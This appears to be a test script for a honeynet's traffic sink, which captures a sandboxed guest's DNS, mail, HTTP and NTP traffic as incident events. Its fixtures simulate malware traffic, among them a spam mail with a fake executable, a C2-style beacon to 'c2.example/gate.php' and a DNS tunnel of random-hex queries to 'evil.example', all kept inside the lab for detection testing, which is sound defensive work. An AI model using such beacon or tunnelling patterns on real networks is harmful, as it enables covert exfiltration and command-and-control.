#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
# tags: namespaces asan
"""The sink: a guest's name server and where its mail ends. What guests say becomes events of their
incident, nothing of it leaves, names of the lab go on resolving, a tunnel through DNS is suspected,
ordinary names are not; a sink that dies is back; `down` leaves nothing."""
import os
import signal
import subprocess
import sys
import time

import common  # noqa
import tap
from honeynet import DNS, WEB, WEB6, Honeynet, guest, need, wait_for

DNS6 = "2001:db8:53::53"

MAIL = """import smtplib, sys
from email.message import EmailMessage
m = EmailMessage()
m['From'], m['To'], m['Subject'] = 'bot@spam.example', 'victim@example.org', 'cheap pills'
m.set_content('buy now, with a \\x01 in it')
m.add_attachment(b'\\0MZ' * 3000, maintype='application', subtype='octet-stream', filename='x.exe')
s = smtplib.SMTP(sys.argv[1], 25, timeout=20)
s.login('root', 'hunter2')
s.send_message(m, to_addrs=['victim@example.org', 'other@example.org'])
print(s.quit()[0])
"""

NAMES = """import socket, struct, sys
def ask(s, name, kind=1):
    q = struct.pack('!HHHHHH', 7, 0x100, 1, 0, 0, 0)
    q += b''.join(bytes([len(l)]) + l for l in name.encode().split(b'.')) + b'\\0' + struct.pack('!HH', kind, 1)
    s.send(q)
    try: return len(s.recv(4096))
    except socket.timeout: return 0
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(6); s.connect((sys.argv[1], 53))
print(sum(ask(s, n, int(sys.argv[2])) > 0 for n in sys.stdin.read().split()))
"""

HTTP_ANY_NTP = """import socket, struct, time
def tcp(port, data, answer):
    s = socket.create_connection(('127.0.0.1', port), 10)
    s.sendall(data)
    got = s.recv(4096) if answer else b''
    s.close()
    return got
a = tcp(80, b'POST /gate.php?secret=ECHO HTTP/1.1\\r\\nHost: c2.example\\r\\nUser-Agent: bot/1\\r\\n'
            b'Content-Length: 9\\r\\n\\r\\nuid=ECHO2', True)
print(a.split()[1].decode(), b'ECHO' in a)
tcp(9, b'SSH-2.0-Go\\r\\n\\0\\xff', False)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
u.sendto(b'\\xde\\xad\\xbe\\xef', ('127.0.0.1', 9))
u.sendto(b'\\x23' + b'\\0' * 39 + b'whenisit', ('127.0.0.1', 123))
r = u.recv(200)
print(len(r), r[0] & 7, r[1], r[24:32].decode(), abs(struct.unpack('!I', r[40:44])[0] - 2208988800 - time.time()) < 5)
"""


def sink(net, **want):
    return net.events("sink", **want)


def names(t, net):
    ns = net.guest_ns("bot")
    outside = net.sniff_outside()
    for how, args in (("IPv4, UDP", ["@" + DNS]), ("IPv4, TCP", ["+tcp", "@" + DNS]),
                      ("IPv6, UDP", ["@" + DNS6]), ("IPv6, TCP", ["+tcp", "@" + DNS6])):
        p = net.run_in(ns, "dig", "+short", "+time=5", "+tries=2", *args, "www.example.com", "A")
        t.equal(p.stdout.strip(), WEB, f"a name of the lab resolves: {how}")
    p = net.run_in(ns, "dig", "+short", "+time=5", "@" + DNS, "www.example.com", "AAAA")
    t.equal(p.stdout.strip(), WEB6, "likewise its IPv6 address")
    t.equal([f for f in outside.since(out=False) if f.dport == 53], [],
            "no query of the guest's crosses the wall")
    got = wait_for(lambda: [e for e in sink(net, service="dns", what="query", guest="bot")
                            if "www.example.com" in e["text"]])
    t.check(got, "queries are events", net.lines("skep")[-5:])
    if got:
        s = got[0]["sink"]
        t.equal((s["client_ip"], s["server_ip"], s["server_port"]), ("10.99.0.30", DNS, 53),
                "... who asked whom")
        t.check(got[0]["incident"], "... and of the guest's incident", got[0])
        flows = {e["flow_id"] for e in net.connections(guest="bot", dest_port=53)}
        t.check(all(e["flow_id"] in flows for e in got), "... and of its conversation", (flows, got))
    c = wait_for(lambda: net.connections(guest="bot", proto="UDP", dest_port=53))
    t.check(c and {e["verdict"] for e in c} == {"redirect"}, "the conversations are redirected", c)
    outside.stop()


def mail(t, net):
    ns, outside = net.guest_ns("bot"), net.sniff_outside()
    for to in (WEB, WEB6):
        p = net.run_in(ns, sys.executable, "-c", MAIL, to, timeout=60)
        t.equal(p.stdout.strip(), "221", f"a mail to {to} is taken")
        t.check(p.returncode == 0, "... without complaint", p.stderr)
    t.equal([f for f in outside.since(out=False) if f.dport == 25], [], "no mail crosses the wall")
    got = wait_for(lambda: sink(net, what="mail", guest="bot", server_ip=WEB))
    t.check(got, "the mail is an event", sink(net))
    if got:
        s = got[0]["sink"]
        t.check("from <bot@spam.example>" in s["excerpt"] and "to <other@example.org>" in s["excerpt"]
                and s["count"] == 2, "... with its envelope", s)
        t.check("1 attachments" in got[0]["text"], "... and what was attached", got[0]["text"])
        t.check(got[0]["incident"], "... of the guest's incident", got[0])
    t.check(wait_for(lambda: [e for e in sink(net, what="headers")
                              if "Subject: cheap pills" in e["sink"]["excerpt"]]), "its headers too")
    t.check([e for e in sink(net, what="body") if "buy now, with a" in e["sink"]["excerpt"]],
            "its body too", sink(net, what="body"))

    def found():  # the database follows the files
        p = net.skep("events", "--kind", "sink", "--addr", WEB6)
        return p.stdout if "smtp mail: mail from <bot@spam.example>" in p.stdout else ""

    said = wait_for(found)
    t.check(said and WEB + " " not in said, "`skep events` finds it by either address", said)
    path = f"{net.dir}/sink.pcapng"
    got = wait_for(lambda: net.skep("pcap", "--interface", "sink", "--port", "25", "-o",
                                    path).returncode == 0 and
                   b"cheap pills" in open(path, "rb").read())
    t.check(got, "its packets are recorded, as of any port")
    login = sink(net, what="login", guest="bot")
    t.check(login and "hunter2" in login[0]["text"], "its login too", login)
    outside.stop()


def other_services(t, net):
    p = net.run_in(f"/run/netns/{net.name}-sink", sys.executable, "-c", HTTP_ANY_NTP, timeout=60)
    out = p.stdout.split("\n")
    t.equal(out[:1], ["200 False"], "HTTP: any request gets a page, without a word of its own")
    t.equal(out[1:2], ["48 4 3 whenisit True"], "NTP: the time, as a server of stratum 3")
    t.check(p.returncode == 0, "no complaint", p.stderr)
    got = wait_for(lambda: sink(net, service="http", what="request"))
    t.check(got and "POST /gate.php?secret=ECHO HTTP/1.1" in got[0]["sink"]["excerpt"] and
            "uid=ECHO2" in got[0]["sink"]["excerpt"], "HTTP: request and body are told", got)
    t.check(wait_for(lambda: [e for e in sink(net, service="tcp", what="bytes")
                              if "53 53 48 2d" in e["sink"]["excerpt"] and "SSH" in e["text"]]),
            "any TCP: what was said, as a dump", sink(net, service="tcp"))
    t.check(wait_for(lambda: [e for e in sink(net, service="udp", what="bytes")
                              if "de ad be ef" in e["sink"]["excerpt"]]), "any UDP likewise")
    t.check(wait_for(lambda: sink(net, service="ntp", what="time")), "NTP is told too")


def tunnel(t, net):
    ns = net.guest_ns("quiet")
    plain = " ".join(f"{w}.{d}" for d in ("debian.example", "example.org", "shop.example.co.uk")
                     for w in ("www", "mail", "ftp", "security", "deb", "static-content-delivery-01",
                               "ec2-54-12-34-56.us-west-2.compute", "mirror", "api", "cdn"))
    p = net.run_in(ns, sys.executable, "-c", NAMES, DNS, "1", input=plain, timeout=60)
    t.equal(p.stdout.strip(), "30", "30 ordinary names are answered")
    data = " ".join(f"{os.urandom(26).hex()}.{os.urandom(9).hex()}.t.evil.example" for _ in range(40))
    p = net.run_in(ns, sys.executable, "-c", NAMES, DNS, "16", input=data, timeout=60)
    t.equal(p.stdout.strip(), "40", "a tunnel's names are answered")
    got = wait_for(lambda: sink(net, what="suspicion"))
    t.equal([("evil.example" in e["text"], e["sink"]["guest"], e["priority"]) for e in got],
            [(True, "quiet", 2)], "it is suspected, once; ordinary names are not")
    t.check([e for e in sink(net, what="query", guest="quiet") if "evil.example" in e["text"] and
             "made up" in e["text"]], "from then on its answers are made up")
    more = " ".join(f"host{i}.debian.example" for i in range(70))
    net.run_in(ns, sys.executable, "-c", NAMES, DNS, "1", input=more, timeout=60)
    t.check(wait_for(lambda: sink(net, what="budget", guest="quiet")),
            "over the budget of a minute queries are refused, and that is told")


def made_up(t):
    with Honeynet([guest("bot", "none", 30)], lab={"services": False}) as net:
        net.up()
        ns = net.guest_ns("bot")

        def dig(*args):
            return net.run_in(ns, "dig", "+short", "+time=5", "@" + DNS, *args).stdout.strip()
        a, b = dig("c2.evil.example", "A"), dig("C2.evil.example", "A")
        t.check(a == b and a.rsplit(".", 1)[0] in ("192.0.2", "198.51.100"),
                "without a resolver an answer is made up, the same each time", (a, b))
        t.check(dig("c2.evil.example", "AAAA").startswith("2001:db8:"), "... an IPv6 one too")
        t.equal(dig("evil.example", "MX"), "10 mail.evil.example.", "... a mail server")
        t.equal(dig("evil.example", "TXT"), "", "... and no text")
        t.check(dig("-x", "8.8.8.8").endswith(".example.net."), "... a reverse name")


def without(t):
    with Honeynet([guest("bot", "none", 30)], sink={"enabled": False}) as net:
        net.up()
        ns, outside = net.guest_ns("bot"), net.sniff_outside()
        p = net.run_in(ns, "dig", "+short", "+time=5", "+tries=2", "@" + DNS, "www.example.com")
        t.equal(p.stdout.strip(), WEB, "turned off: names are resolved outside")
        t.check(wait_for(lambda: [f for f in outside.since(out=False) if f.dport == 53], 3),
                "... the query crosses")
        net.run_in(ns, sys.executable, "-c",
                   f"import socket; s=socket.socket(); s.settimeout(1); s.connect_ex(('{WEB}', 25))")
        c = wait_for(lambda: net.connections(guest="bot", dest_port=25))
        t.equal([(e["verdict"], e["reason"]) for e in c], [("drop", "smtp")], "... mail is dropped")


def restart(t, net):
    pid = net.role_pid("sink")
    t.check(pid, "status shows the role", net.status().get("roles"))
    os.kill(pid, signal.SIGKILL)
    t.check(wait_for(lambda: net.role_pid("sink") not in (0, pid), 10), "a killed sink is back")
    p = net.run_in(net.guest_ns("bot"), "dig", "+short", "+time=5", "+tries=3", "@" + DNS, "a.example")
    t.equal(p.stdout.strip(), WEB, "... and answers")
    ports = [x["name"] for x in net.status().get("wall", {}).get("ports", [])]
    t.check("sink" in ports, "status shows its port", ports)


def main(t):
    need("dig")
    with Honeynet([guest("bot", "none", 30), guest("quiet", "none", 31)],
                  network={"resolver6": DNS6},
                  wall={"limits": {"dns": "none"}}) as net:
        net.up()
        names(t, net)
        mail(t, net)
        other_services(t, net)
        tunnel(t, net)
        restart(t, net)
        net.down()
        left = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True).stdout
        t.check(net.name not in left, "`down` leaves no namespace", left)
    made_up(t)
    without(t)


tap.run(main)
